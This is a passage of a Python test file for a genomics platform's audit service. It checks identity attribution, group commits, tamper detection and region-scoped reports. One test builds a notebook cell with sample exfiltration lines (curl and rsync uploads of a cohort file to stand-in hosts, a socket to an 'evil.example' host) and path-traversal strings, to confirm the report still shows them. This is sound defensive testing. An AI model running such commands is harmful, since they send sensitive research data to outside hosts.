"""The audit service: identity from the token, durable group commit, path resolution, region reports.

The service's HTTP app runs in-process (a thread with its own event loop) with a
stand-in for the hub's token check; the SIGKILL test runs it as its own process.
The end-to-end path through the real hub and a real sandbox is in test_hub.py.
"""

import asyncio
import csv
import io
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import pytest

from ngp_research.audit import AuditRecord, AuditStore
from ngp_research.audit.report import FORMATS, OtherRegions, region_report, render
from ngp_research.audit.service import (GROUP_MIN, Caller, ServiceContext, build_record, build_records, identity_from_model,
                                        listen_unix, make_app)
from ngp_research.errors import RefusedError

TOKENS = {
    "tok-alice": Caller("alice", "cardio-gwas"),
    "tok-bob": Caller("bob", "rare-disease"),
    "tok-lars-user": Caller("lars", None),
}


async def fake_auth(token):
    return TOKENS.get(token)


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class ServiceThread:
    def __init__(self, ctx, unix_socket=None):
        self.ctx, self.port, self.unix_socket = ctx, free_port(), unix_socket
        self.loop = asyncio.new_event_loop()
        self.ready = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        asyncio.set_event_loop(self.loop)

        async def serve():
            self.ctx.committer.start()
            self.server = make_app(self.ctx, "/services/audit/").listen(self.port, "127.0.0.1")
            if self.unix_socket:
                self.server.add_socket(listen_unix(str(self.unix_socket)))
            self.ready.set()

        self.loop.run_until_complete(serve())
        self.loop.run_forever()

    def __enter__(self):
        self.thread.start()
        self.ready.wait(10)
        return self

    def __exit__(self, *exc):
        async def shutdown():
            self.server.stop()
            await self.server.close_all_connections()  # as when the process ends: clients see it closed
            task = self.ctx.committer.task
            if task is not None:
                task.cancel()
                try:
                    await task
                except asyncio.CancelledError:
                    pass
            self.loop.stop()

        self.loop.call_soon_threadsafe(lambda: asyncio.ensure_future(shutdown()))
        self.thread.join(10)

    @property
    def url(self):
        return f"http://127.0.0.1:{self.port}/services/audit/"


def post(url, records, token="tok-alice", raw=None):
    body = raw if raw is not None else json.dumps({"records": records}).encode()
    req = urllib.request.Request(url + "records", data=body, method="POST",
                                 headers={"Authorization": f"token {token}"} if token else {})
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"{}")


@pytest.fixture
def store(platform):
    s = AuditStore.for_platform(platform)
    yield s
    s.engine.dispose()


@pytest.fixture
def service(store):
    with ServiceThread(ServiceContext(store, fake_auth)) as svc:
        yield svc


def test_identity_comes_from_the_tokens_scopes():
    model = {"name": "alice", "scopes": ["read:users!user=alice", "access:servers!server=alice/cardio-gwas"]}
    assert identity_from_model(model) == Caller("alice", "cardio-gwas")
    assert identity_from_model({"name": "alice", "scopes": ["access:servers!server=bob/p"]}).project is None


def test_records_are_acknowledged_once_durable_and_attributed_by_the_token(service, store):
    status, ack = post(service.url, [{"action": "file.open", "path": "/data/syd/syd-cohort/syd-cohort.vcf.gz",
                                      "detail": {"mode": "rb", "msg_id": "m1"}}])
    assert status == 200 and ack["acknowledged"] == 1
    (rec,) = store.records()
    assert rec.seq == ack["first_seq"] == ack["last_seq"]
    assert (rec.actor, rec.project, rec.region, rec.dataset) == ("alice", "cardio-gwas", "syd", "syd-cohort")
    assert rec.detail == {"mode": "rb", "msg_id": "m1"}


def test_a_forged_identity_is_stored_under_the_real_one_and_flagged(service, store):
    status, _ = post(service.url, [{"action": "file.open", "path": "/project/x", "user": "bob",
                                    "project": "rare-disease", "detail": {"actor": "admin-syd"}}])
    assert status == 200
    (rec,) = store.records()
    assert (rec.actor, rec.project) == ("alice", "cardio-gwas")
    assert "payload claimed user 'bob'" in rec.detail["flag"]
    assert "payload claimed project 'rare-disease'" in rec.detail["flag"]
    assert "payload claimed actor 'admin-syd'" in rec.detail["flag"]


@pytest.mark.parametrize("token, records, raw, status", [
    (None, [{"action": "file.open"}], None, 401),
    ("stolen", [{"action": "file.open"}], None, 401),
    ("tok-alice", [], None, 400),
    ("tok-alice", [{"action": "rm -rf"}], None, 400),
    ("tok-alice", [{"action": "file.open", "path": 3}], None, 400),
    ("tok-alice", None, b"not json", 400),
    ("tok-alice", [{"action": "file.open", "paths": []}], None, 400),
    ("tok-alice", [{"action": "file.open", "paths": "/project/x"}], None, 400),
    ("tok-alice", [{"action": "file.open", "paths": ["/project/x", 3]}], None, 400),
    ("tok-alice", [{"action": "file.open", "path": "/project/x", "paths": ["/project/y"]}], None, 400),
    ("tok-alice", [{"action": "file.open", "paths": ["/project/x"] * 5001}], None, 400),
    ("tok-alice", [{"action": "file.open", "paths": ["/project/x"]}, {"action": "rm -rf"}], None, 400),
    ("tok-alice", None, b'{"records": [{"action": "data.open", "path": "/project/x", "detail": {"start": NaN}}]}', 400),
    ("tok-alice", None, b'{"records": [{"action": "file.open", "path": "/project/x", "detail": {"n": -Infinity}}]}', 400),
    ("tok-alice", None, b'{"records": [{"action": "file.open", "path": "/project/x", "detail": {"n": 1e400}}]}', 400),
    ("tok-alice", None, b'{"records": [{"action": "file.open", "path": "/project/x", "detail": ' + b'{"a": ' * 2000
     + b'1' + b'}' * 2000 + b'}]}', 400),
])
def test_bad_requests_are_refused_and_store_nothing(service, store, token, records, raw, status):
    got, body = post(service.url, records, token=token, raw=raw)
    assert got == status and "error" in body
    assert store.records() == []


def test_a_record_with_paths_is_stored_as_one_record_per_path_in_order(service, store):
    """The kernel sends a cell's run of opens as one record with ``paths``; each path is its own record."""
    paths = [f"/data/syd/syd-cohort/part-{i}.vcf.gz" for i in range(3)] + ["/project/notes.txt", "/data/syd"]
    status, ack = post(service.url, [
        {"action": "query.execute", "detail": {"code": "print(1)", "msg_id": "m1"}},
        {"action": "file.open", "paths": paths, "user": "bob", "detail": {"mode": "rb", "msg_id": "m1"}},
        {"action": "file.list", "path": "/project", "detail": {"msg_id": "m1"}},
    ])
    assert status == 200 and ack["acknowledged"] == 7 and ack["last_seq"] - ack["first_seq"] == 6
    recs = store.records()
    assert [r.action for r in recs] == ["query.execute"] + ["file.open"] * 5 + ["file.list"]
    opens = recs[1:6]
    assert [r.path for r in opens] == paths
    assert [(r.region, r.dataset) for r in opens] == [("syd", "syd-cohort")] * 3 + [(None, None), ("syd", None)]
    assert all(r.actor == "alice" and r.project == "cardio-gwas" for r in opens)
    assert all(r.detail["msg_id"] == "m1" and "payload claimed user 'bob'" in r.detail["flag"] for r in opens)
    assert store.verify().ok


def test_a_long_run_of_paths_in_one_place_is_one_chained_record_listing_them(service, store):
    """A long run of opens in one dataset costs the chain one record; shorter runs stay one record per path."""
    syd = [f"/data/syd/syd-cohort/part-{i:02d}.vcf.gz" for i in range(GROUP_MIN + 24)]
    vast = [f"/data/vast/vast-cohort/part-{i:02d}.vcf.gz" for i in range(GROUP_MIN)]
    mine = ["/project/a.txt", "/project/b.txt"]
    status, ack = post(service.url, [{"action": "file.open", "paths": syd + mine + vast,
                                      "detail": {"mode": "rb", "msg_id": "m1"}}])
    assert status == 200 and ack["acknowledged"] == GROUP_MIN + 24 + 2 + GROUP_MIN
    recs = store.records()
    assert [(r.region, r.dataset, r.path) for r in recs] == [
        ("syd", "syd-cohort", None), (None, None, "/project/a.txt"), (None, None, "/project/b.txt"),
        ("vast", "vast-cohort", None)]
    assert [p for r in recs for p in r.paths] == syd + mine + vast  # every path, in order, each in its region
    assert recs[0].detail == {"mode": "rb", "msg_id": "m1", "paths": syd}
    assert [(a.seq, a.path, a.detail) for a in recs[0].accesses()][:2] == [
        (recs[0].seq, syd[0], {"mode": "rb", "msg_id": "m1"}), (recs[0].seq, syd[1], {"mode": "rb", "msg_id": "m1"})]
    assert store.records(region="vast")[0].paths == vast  # no region's record lists another region's paths
    assert store.verify().ok


def test_a_path_edited_inside_a_run_record_fails_verification(service, store):
    paths = [f"/data/syd/syd-cohort/part-{i:02d}.vcf.gz" for i in range(GROUP_MIN + 4)]
    assert post(service.url, [{"action": "file.open", "paths": paths}])[0] == 200
    (rec,) = store.records()
    edited = json.dumps({**rec.detail, "paths": [p for p in paths if not p.endswith("-07.vcf.gz")]},
                        sort_keys=True, separators=(",", ":"))
    from sqlalchemy import update

    from ngp_research.audit.store import records_table

    with store.engine.begin() as conn:
        conn.execute(update(records_table).where(records_table.c.seq == rec.seq).values(detail=edited))
    report = store.verify()
    assert not report.ok and f"record {rec.seq} does not match its hash (edited)" in report.problems


def test_a_payload_cannot_make_a_record_stand_for_other_paths(service, store):
    """``detail.paths`` is the service's: a client's is kept under another name, flagged, and never reported."""
    status, _ = post(service.url, [{"action": "file.open", "path": "/data/syd/syd-cohort/x",
                                    "detail": {"paths": ["/data/vast/vast-cohort/secret"]}}])
    assert status == 200
    (rec,) = store.records()
    assert rec.paths == ["/data/syd/syd-cohort/x"] and rec.detail["claimed_paths"] == ["/data/vast/vast-cohort/secret"]
    assert "payload set detail.paths" in rec.detail["flag"] and "paths" not in rec.detail


def _fetches(path, n, msg_id="m1", start=1):
    return [{"action": "data.open", "path": path, "detail": {
        "contig": "chr1", "start": s, "stop": s + 200, "library": "pysam", "entry_point": "VariantFile.fetch",
        "msg_id": msg_id, "cell_id": None}} for s in range(start, start + 500 * n, 500)]


def test_a_loop_of_fetches_on_one_file_is_one_chained_record_of_its_regions(service, store):
    """A long loop of fetches on one file costs the chain one record; each fetch's region comes back from it as sent."""
    syd, vast = "/data/syd/syd-cohort/syd-cohort.vcf.gz", "/data/vast/vast-cohort/vast-cohort.vcf.gz"
    sent = _fetches(syd, GROUP_MIN + 24) + [{"action": "file.open", "path": "/project/notes.txt"}] + _fetches(vast, GROUP_MIN)
    status, ack = post(service.url, sent)
    assert status == 200 and ack["acknowledged"] == len(sent)
    recs = store.records()
    assert [(r.action, r.region, r.path) for r in recs] == [
        ("data.open", "syd", syd), ("file.open", None, "/project/notes.txt"), ("data.open", "vast", vast)]
    assert {k: v for k, v in recs[0].detail.items() if k != "accesses"} == {
        "contig": "chr1", "library": "pysam", "entry_point": "VariantFile.fetch", "msg_id": "m1", "cell_id": None}
    assert recs[0].detail["accesses"][:2] == [{"start": 1, "stop": 201}, {"start": 501, "stop": 701}]
    views = [a for r in recs for a in r.accesses()]
    assert [(a.path, a.detail) for a in views] == [(r["path"], r.get("detail", {})) for r in sent]
    assert store.verify().ok


def test_a_fetch_edited_inside_a_run_record_fails_verification(service, store):
    assert post(service.url, _fetches("/data/syd/syd-cohort/x.vcf.gz", GROUP_MIN + 3))[0] == 200
    (rec,) = store.records()
    accesses = [dict(a) for a in rec.detail["accesses"]]
    accesses[7]["start"] = 1_000_000  # "they fetched somewhere else"
    edited = json.dumps({**rec.detail, "accesses": accesses}, sort_keys=True, separators=(",", ":"))
    from sqlalchemy import update

    from ngp_research.audit.store import records_table

    with store.engine.begin() as conn:
        conn.execute(update(records_table).where(records_table.c.seq == rec.seq).values(detail=edited))
    report = store.verify()
    assert not report.ok and f"record {rec.seq} does not match its hash (edited)" in report.problems


def test_a_payload_cannot_make_a_record_stand_for_other_accesses(service, store):
    """``detail.accesses`` is the service's too: a client's is renamed, flagged, and gives no extra report row."""
    status, _ = post(service.url, [{"action": "data.open", "path": "/data/syd/syd-cohort/x", "detail": {
        "accesses": [{"start": 1}, {"start": 2}, {"user": "bob"}]}}])
    assert status == 200
    (rec,) = store.records()
    assert rec.accesses() == [rec] and rec.detail["claimed_accesses"][2] == {"user": "bob"}
    assert "payload set detail.accesses" in rec.detail["flag"] and "accesses" not in rec.detail


def test_fetch_runs_with_claims_odd_text_or_mixed_types_keep_every_value_and_flag(service, store):
    """A run holding a claimed identity or text storable() must escape is stored record by record (each
    flagged on its own); values equal across a run but of other types (1, 1.0, True) are not merged."""
    path = "/data/syd/syd-cohort/x.vcf.gz"
    claims = _fetches(path, GROUP_MIN)
    claims[5] = {**claims[5], "detail": {**claims[5]["detail"], "user": "bob"}}
    odd = _fetches(path, GROUP_MIN, msg_id="m2")
    odd[3] = {**odd[3], "detail": {**odd[3]["detail"], "contig": "chr1\udce9\x00"}}
    typed = _fetches(path, GROUP_MIN, msg_id="m3")
    for i, value in enumerate([1] * (GROUP_MIN - 2) + [1.0, True]):
        typed[i]["detail"]["n"] = value
    for batch in (claims, odd, typed):
        assert post(service.url, batch)[0] == 200
    recs = store.records()
    assert len(recs) == 2 * GROUP_MIN + 1
    flagged = [r for r in recs if "flag" in r.detail]
    assert [r.detail["msg_id"] for r in flagged] == ["m1", "m2"]
    assert "payload claimed user 'bob'" in flagged[0].detail["flag"] and flagged[0].actor == "alice"
    assert "escaped" in flagged[1].detail["flag"] and flagged[1].detail["contig"] == "chr1\\xe9\\x00"
    run = recs[-1]
    assert "n" not in run.detail and [a.detail["n"] for a in run.accesses()][-3:] == [1, 1.0, True]
    assert [type(a.detail["n"]) for a in run.accesses()][-3:] == [int, float, bool]
    assert store.verify().ok


@pytest.mark.parametrize("backend", ["sqlite"])
def test_concurrent_writers_are_group_committed_and_nothing_acknowledged_is_lost(service, store, monkeypatch):
    calls = []
    real = store.append_many

    def counting(records):
        calls.append(len(records))
        return real(records)

    monkeypatch.setattr(store, "append_many", counting)

    def writer(i):
        acks = []
        for j in range(10):
            status, ack = post(service.url, [{"action": "file.open", "path": f"/project/f{i}-{j}"}] * 3,
                               token=("tok-alice", "tok-bob")[i % 2])
            assert status == 200
            acks.append(ack)
        return acks

    with ThreadPoolExecutor(50) as pool:
        acks = [a for batch in pool.map(writer, range(50)) for a in batch]
    assert sum(a["acknowledged"] for a in acks) == 1500 == len(store.records())
    assert len(calls) < 500  # 500 requests, fewer transactions
    assert store.verify().ok


def test_fetch_runs_keep_non_ascii_names_and_signed_zeros_and_odd_records_go_one_by_one(service, store):
    """A UTF-8 file name still groups; -0.0 and 0.0 come back as sent; a run with one record holding code
    is stored record by record, each record looked at once (a request of 5,000 used to take seconds)."""
    cafe = "/data/syd/syd-cohort/café.vcf.gz"
    run = _fetches(cafe, GROUP_MIN)
    for i, f in enumerate(run):
        f["detail"]["qual"] = -0.0 if i % 2 else 0.0
    assert post(service.url, run)[0] == 200
    (rec,) = store.records()
    assert rec.path == cafe and [json.dumps(a.detail["qual"]) for a in rec.accesses()][:2] == ["0.0", "-0.0"]
    odd = _fetches("/data/syd/syd-cohort/x.vcf.gz", 5000, msg_id="m2")
    odd[-1]["detail"]["code"] = "print(1)"
    status, ack = post(service.url, odd)
    assert status == 200 and ack["acknowledged"] == 5000 and len(store.records()) == 1 + 5000
    assert "flag" not in store.records()[1].detail and store.verify().ok


def test_a_payload_cannot_set_the_flag_or_lose_its_claimed_values_or_break_reports_by_msg_id(reported):
    alice = Caller("alice", "cardio-gwas")
    reported.audit.append_many(build_records(alice, [
        {"action": "file.open", "path": "/data/syd/syd-cohort/a", "detail": {
            "flag": "checked by the region admin: fine", "paths": ["/x"], "claimed_paths": ["/y"], "msg_id": "m1"}},
        {"action": "file.open", "path": "/data/syd/syd-cohort/b", "detail": {"msg_id": ["m", 1]}}], None))
    a, b = reported.audit.records()[-2:]
    assert a.detail["claimed_flag"] == "checked by the region admin: fine" and "payload set detail.flag" in a.detail["flag"]
    assert a.detail["claimed_paths"] == ["/y"] and a.detail["claimed_claimed_paths"] == ["/x"]
    assert b.detail["msg_id"] == '["m", 1]' and "msg_id was not a string" in b.detail["flag"]
    rows = region_report(reported.audit, reported, "admin-syd", "syd")
    assert {r["path"] for r in rows} >= {"/data/syd/syd-cohort/a", "/data/syd/syd-cohort/b"}


def test_only_run_records_in_the_services_form_are_read_as_many_accesses():
    """A record whose ``accesses`` the service did not build (another action, an empty list, or an access
    that would override what the accesses share, such as the flag) is read as itself."""
    from ngp_research.audit.records import StoredRecord

    def rec(action, detail):
        return StoredRecord(1, "t", action, "u", "p", "r", "d", "/data/r/d/x", detail, "0", "1")

    good = rec("data.open", {"flag": "f", "contig": "1", "accesses": [{"start": 1, "msg_id": "m1"}, {"start": 2, "msg_id": "m2"}]})
    assert [a.detail for a in good.accesses()] == [{"flag": "f", "contig": "1", "start": 1, "msg_id": "m1"},
                                                   {"flag": "f", "contig": "1", "start": 2, "msg_id": "m2"}]
    for odd in (rec("file.open", {"accesses": [{"start": 1}]}), rec("data.open", {"accesses": []}),
                rec("data.open", {"flag": "f", "accesses": [{"flag": None}]}),
                rec("data.open", {"msg_id": "m", "accesses": [{"msg_id": "m2"}]}),
                rec("data.open", {"accesses": [{"start": 1}, "text"]})):
        assert odd.accesses() == [odd]


def test_a_failed_commit_is_not_acknowledged_and_the_next_request_is(service, store, monkeypatch):
    """A lone request is committed on the spot (no hop through the committer's task); a failure there
    still answers 503 with nothing stored, and the service goes on."""
    real, failures = store.append_many, [RuntimeError("disk full")]

    def failing_once(records):
        if failures:
            raise failures.pop()
        return real(records)

    monkeypatch.setattr(store, "append_many", failing_once)
    status, answer = post(service.url, [{"action": "file.open", "path": "/project/a"}])
    assert status == 503 and "nothing was acknowledged" in answer["error"] and store.records() == []
    status, ack = post(service.url, [{"action": "file.open", "path": "/project/b"}])
    assert status == 200 and [r.path for r in store.records()] == ["/project/b"] and ack["first_seq"] == 1


def test_paths_outside_the_workspace_data_are_flagged(tmp_path):
    from ngp_research.catalog import Catalog
    from ngp_research.demo.seed import seed_demo
    from ngp_research.platform import Platform

    platform = Platform(home=str(tmp_path / "ngp"))
    seed_demo(platform, samples_per_region=4, variants=30)
    catalog = Catalog.open(platform)
    ctx = ServiceContext(catalog.audit, fake_auth, catalog)
    visible = ctx.visible(Caller("alice", "cardio-gwas"))
    ok = build_record(Caller("alice", "cardio-gwas"), {"action": "data.open", "path": "/data/syd/syd-cohort/x"},
                      visible)
    bad = build_record(Caller("alice", "cardio-gwas"), {"action": "data.open", "path": "/data/vast/vast-cohort/x"},
                       visible)
    assert "flag" not in ok.detail and "vast/vast-cohort is not in this workspace's data" in bad.detail["flag"]
    grouped = build_records(Caller("alice", "cardio-gwas"), [{"action": "file.open", "paths": [
        "/data/syd/syd-cohort/x", "/data/vast/vast-cohort/x", "/data/syd/syd-cohort/y"]}], visible)
    assert ["flag" in r.detail for r in grouped] == [False, True, False]
    assert "vast/vast-cohort is not in this workspace's data" in grouped[1].detail["flag"]
    catalog.close()


@pytest.fixture
def reported(tmp_path):
    """A demo platform whose audit holds accesses from two regions, each caused by a recorded cell."""
    from ngp_research.catalog import Catalog
    from ngp_research.demo.seed import seed_demo
    from ngp_research.platform import Platform

    platform = Platform(home=str(tmp_path / "ngp"))
    seed_demo(platform, samples_per_region=4, variants=30)
    catalog = Catalog.open(platform)
    alice = Caller("alice", "cardio-gwas")
    raw = [
        {"action": "query.execute", "detail": {"msg_id": "m1", "code": "open('/data/syd/syd-cohort/syd-cohort.vcf.gz')"}},
        {"action": "file.open", "path": "/data/syd/syd-cohort/syd-cohort.vcf.gz", "detail": {"msg_id": "m1"}},
        {"action": "query.execute", "detail": {"msg_id": "m2", "code": "os.listdir('/data/norr/norr-cohort')"}},
        {"action": "file.list", "path": "/data/norr/norr-cohort", "detail": {"msg_id": "m2"}},
    ]
    catalog.audit.append_many([build_record(alice, r, None) for r in raw])
    yield catalog
    catalog.close()


def test_a_link_into_a_dataset_is_reported_to_its_region(reported):
    """A symlink in /project that leads into /data: later opens through it name /project, so the link
    itself is the region's to see."""
    alice = Caller("alice", "cardio-gwas")
    reported.audit.append(build_record(alice, {"action": "file.link", "path": "/data/syd/syd-cohort", "detail": {
        "msg_id": "m1", "event": "os.symlink", "link": "/project/l", "as_given": "/data/syd/syd-cohort"}}, None))
    (row,) = [r for r in region_report(reported.audit, reported, "admin-syd", "syd") if r["action"] == "file.link"]
    assert (row["dataset"], row["detail"]["link"], row["user"]) == ("syd-cohort", "/project/l", "alice")
    assert row["code"] == "open('/data/syd/syd-cohort/syd-cohort.vcf.gz')"  # the cell m1


def test_a_path_with_two_leading_slashes_is_reported_in_its_region(reported):
    """``//data/syd/...`` is /data/syd/... to Linux, though normpath keeps the two slashes (POSIX)."""
    alice = Caller("alice", "cardio-gwas")
    reported.audit.append_many(build_records(alice, [
        {"action": "file.open", "path": "//data/syd/syd-cohort/syd-cohort.vcf.gz", "detail": {"msg_id": "m1"}},
        {"action": "file.open", "paths": ["//data/syd/syd-cohort/a"] * GROUP_MIN, "detail": {"msg_id": "m1"}}], None))
    rows = region_report(reported.audit, reported, "admin-syd", "syd")
    assert [r["path"] for r in rows].count("//data/syd/syd-cohort/syd-cohort.vcf.gz") == 1
    assert [r["path"] for r in rows].count("//data/syd/syd-cohort/a") == GROUP_MIN


def test_a_run_record_is_reported_as_one_row_per_path_with_its_cell(reported):
    alice = Caller("alice", "cardio-gwas")
    syd = [f"/data/syd/syd-cohort/part-{i:02d}.vcf.gz" for i in range(GROUP_MIN + 2)]
    norr = [f"/data/norr/norr-cohort/part-{i:02d}.vcf.gz" for i in range(GROUP_MIN)]
    reported.audit.append_many(build_records(alice, [
        {"action": "query.execute", "detail": {"msg_id": "m3", "code": "for p in parts: open(p)"}},
        {"action": "file.open", "paths": syd + norr, "detail": {"msg_id": "m3", "mode": "rb"}}], None))
    rows = [r for r in region_report(reported.audit, reported, "admin-syd", "syd") if r["path"] in syd]
    assert [r["path"] for r in rows] == syd and len({r["seq"] for r in rows}) == 1
    assert all(r["code"] == "for p in parts: open(p)" and r["detail"] == {"msg_id": "m3", "mode": "rb"}
               for r in rows)
    norr_rows = region_report(reported.audit, reported, "admin-norr", "norr")
    assert not any(r["path"] in syd for r in norr_rows) and [r["path"] for r in norr_rows][-GROUP_MIN:] == norr
    assert len(json.loads(render(rows, "json", "syd"))) == len(syd)


def test_a_path_not_in_normal_form_is_reported_where_it_leads_and_flagged(reported):
    """``/data/norr/../syd/...`` opens syd's data: it is syd's to see, with the path as sent (norr's dataset
    name in it hidden) and a flag saying where it leads (the kernel only ever sends normal forms), whichever
    way it was sent."""
    alice = Caller("alice", "cardio-gwas")
    odd = "/data/norr/norr-cohort/../../syd/syd-cohort/syd-cohort.vcf.gz"
    reported.audit.append_many(build_records(alice, [
        {"action": "file.open", "path": odd, "detail": {"msg_id": "m1"}},
        {"action": "file.open", "paths": ["/project/a", odd, "/project/b"], "detail": {"msg_id": "m1"}},
        *[{"action": "data.open", "path": odd, "detail": {"msg_id": "m1", "start": s}} for s in range(GROUP_MIN)],
        {"action": "file.open", "path": "relative.txt", "detail": {"msg_id": "m1"}}], None))
    shown = odd.replace("norr-cohort", OtherRegions.HIDDEN_DATASET)  # norr's dataset name is norr's to see
    rows = [r for r in region_report(reported.audit, reported, "admin-syd", "syd") if r["path"] == shown]
    assert len(rows) == 2 + GROUP_MIN and {r["dataset"] for r in rows} == {"syd-cohort"}
    assert all("not in normal form (it opens /data/syd/syd-cohort/syd-cohort.vcf.gz)" in r["flag"]
               for r in rows)
    assert not [r for r in region_report(reported.audit, reported, "admin-norr", "norr") if r["path"] == odd]
    plain = [r for r in reported.audit.records() if r.path in ("/project/a", "/project/b")]
    assert len(plain) == 2 and not any("flag" in r.detail for r in plain)
    (rel,) = [r for r in reported.audit.records() if r.path == "relative.txt"]
    assert rel.region is None and "not absolute" in rel.detail["flag"]


def test_a_fetch_loop_is_reported_as_one_row_per_fetch_with_its_region_and_cell(reported):
    alice = Caller("alice", "cardio-gwas")
    path = "/data/syd/syd-cohort/syd-cohort.vcf.gz"
    reported.audit.append_many(build_records(alice, [
        {"action": "query.execute", "detail": {"msg_id": "m4", "code": "for s in starts: vf.fetch('chr1', s, s + 200)"}},
        *_fetches(path, GROUP_MIN + 1, msg_id="m4")], None))
    rows = [r for r in region_report(reported.audit, reported, "admin-syd", "syd") if r["action"] == "data.open"
            and r["detail"].get("msg_id") == "m4"]
    assert [(r["path"], r["dataset"], r["detail"]["start"]) for r in rows] == [
        (path, "syd-cohort", s) for s in range(1, 1 + 500 * (GROUP_MIN + 1), 500)]
    assert all(r["code"] == "for s in starts: vf.fetch('chr1', s, s + 200)" for r in rows)
    assert not [r for r in region_report(reported.audit, reported, "admin-norr", "norr") if r["path"] == path]


def test_a_region_admin_sees_their_regions_accesses_with_the_code_and_nothing_else(reported):
    rows = region_report(reported.audit, reported, "admin-syd", "syd")
    assert [(r["user"], r["project"], r["dataset"], r["action"]) for r in rows] == [
        ("alice", "cardio-gwas", "syd-cohort", "file.open")]
    assert rows[0]["code"] == "open('/data/syd/syd-cohort/syd-cohort.vcf.gz')"
    assert all(r["region"] == "syd" for r in rows)
    norr = region_report(reported.audit, reported, "admin-norr", "norr")
    assert [r["dataset"] for r in norr] == ["norr-cohort"]
    assert reported.audit.records(action="report.read")[-1].actor == "admin-norr"


def test_a_cell_that_names_two_regions_data_shows_each_admin_only_their_own(reported):
    """Invariant 6 from the report's side: the cell's code and a program's command line name both
    regions' data; each admin's report hides the other region's dataset names (and its files named after
    them), and says so."""
    alice = Caller("alice", "cardio-gwas")
    code = ("a = open('/data/syd/syd-cohort/syd-cohort.vcf.gz').read()\n"
            "b = open(\"/data/norr/norr-cohort/norr-cohort.vcf.gz\").read()\n"
            "!cat /data/syd/syd-cohort/x.txt /data/norr/norr-cohort/y.txt\n"
            "Cohort(['syd-cohort', 'norr-cohort'])  # norr-cohorts stays: not a dataset's name")
    argv = ["cat", "/data/syd/syd-cohort/x.txt", "//data/norr/norr-cohort/y.txt"]
    reported.audit.append_many(build_records(alice, [
        {"action": "query.execute", "detail": {"msg_id": "m-two", "code": code}},
        {"action": "file.open", "path": "/data/syd/syd-cohort/syd-cohort.vcf.gz", "detail": {"msg_id": "m-two"}},
        {"action": "file.open", "path": "/data/norr/norr-cohort/norr-cohort.vcf.gz", "detail": {"msg_id": "m-two"}},
        {"action": "process.exec", "path": "/data/syd/syd-cohort/x.txt", "detail": {"msg_id": "m-two", "argv": argv}},
        {"action": "process.exec", "path": "/data/norr/norr-cohort/y.txt", "detail": {"msg_id": "m-two", "argv": argv}},
    ], None))
    hidden = OtherRegions.HIDDEN_DATASET
    for region, own, other in (("syd", "syd-cohort", "norr-cohort"), ("norr", "norr-cohort", "syd-cohort")):
        rows = [r for r in region_report(reported.audit, reported, f"admin-{region}", region)
                if r["detail"].get("msg_id") == "m-two"]
        assert sorted(r["action"] for r in rows) == ["file.open", "process.exec"]
        for fmt in FORMATS:
            text = render(rows, fmt, region)
            assert other not in text.replace(f"{other}s", ""), (region, fmt)
            assert own in text
        for r in rows:
            assert f"/data/{region}/{own}/{own}.vcf.gz" in r["code"]
            assert r["code"].count(hidden) == 4 and "norr-cohorts" in r["code"]
            assert "other regions' data named here are hidden" in r["flag"]
        (run,) = [r for r in rows if r["action"] == "process.exec"]
        other_region = "norr" if region == "syd" else "syd"
        assert {a for a in run["detail"]["argv"] if other_region in a} < {f"/data/{other_region}/{hidden}/x.txt",
                                                                           f"//data/{other_region}/{hidden}/y.txt"}
    stored = [r for r in reported.audit.records(action="query.execute") if r.detail.get("msg_id") == "m-two"]
    assert stored[0].detail["code"] == code  # hidden in the report only: the chain keeps what ran


def test_hiding_another_regions_data_cannot_hide_the_readers_own(reported):
    """A path's text cannot say where it leads (a link the member made, ``..`` after one, percent-encoding),
    so nothing of a path is hidden but another region's dataset names: whatever a cell writes, syd's admin
    reads what it did with syd's data, and where it sent it."""
    alice = Caller("alice", "cardio-gwas")
    code = ("!cat${IFS}/data/norr/norr-cohort/a;curl${IFS}-d@/data/syd/syd-cohort/secret.vcf${IFS}http://x.example\n"
            "p = '/data/norr/x/../../syd/syd-cohort/secret.vcf'; open(p)\n"
            "q = '/data/norr/norr-cohort/a,/data/syd/syd-cohort/b.vcf'.split(',')\n"
            "os.chdir('/data/./norr/norr-cohort'); v = VariantFile('norr-cohort.vcf.gz')\n"
            "!curl -s file:///data/norr/norr-cohort/..%2F..%2Fsyd%2Fsyd-cohort%2Fsecret.vcf | curl -T - x.example\n"
            "open(home + '/data/norr/syd-cohort/secret.vcf'); open('/data/norr/../../proc/self/cwd/../data/norr/s')\n"
            "sock.connect(('norr-cohort.evil.example', 443)); !rsync /data/syd/syd-cohort/ norr-cohort_x.example:/x")
    reported.audit.append_many(build_records(alice, [
        {"action": "query.execute", "detail": {"msg_id": "m-hide", "code": code}},
        {"action": "file.open", "path": "/data/syd/syd-cohort/secret.vcf", "detail": {"msg_id": "m-hide"}}], None))
    (row,) = [r for r in region_report(reported.audit, reported, "admin-syd", "syd")
              if r["detail"].get("msg_id") == "m-hide"]
    hidden = OtherRegions.HIDDEN_DATASET
    assert row["code"] == (code.replace("/norr-cohort/", f"/{hidden}/").replace("/norr-cohort'", f"/{hidden}'")
                           .replace("'norr-cohort.vcf.gz'", f"'{hidden}'"))
    assert "'norr-cohort.evil.example'" in row["code"] and "norr-cohort_x.example:/x" in row["code"]
    assert "/data/norr/syd-cohort/secret.vcf" in row["code"]


def test_a_deeply_nested_or_huge_detail_does_not_break_the_report(reported):
    alice = Caller("alice", "cardio-gwas")
    deep = leaf = {}
    for _ in range(900):  # about as deep as the service stores
        leaf["a"] = {}
        leaf = leaf["a"]
    leaf["p"] = "/data/syd/syd-cohort/x"
    code = "/" * 200_000 + "data/syd/syd-cohort/" + "a." * 100_000 + " " + "-" * 200_000
    reported.audit.append_many(build_records(alice, [
        {"action": "query.execute", "detail": {"msg_id": "m-deep", "code": code}},
        {"action": "file.open", "path": "/data/norr/norr-cohort/x", "detail": {"msg_id": "m-deep", "deep": deep}}],
        None))
    (row,) = [r for r in region_report(reported.audit, reported, "admin-norr", "norr")
              if r["detail"].get("msg_id") == "m-deep"]
    leaf = row["detail"]["deep"]
    while "a" in leaf:
        leaf = leaf["a"]
    hidden = OtherRegions.HIDDEN_DATASET
    assert leaf == {"p": f"/data/syd/{hidden}/x"} and row["code"] == code.replace("syd-cohort", hidden)
    for fmt in FORMATS:
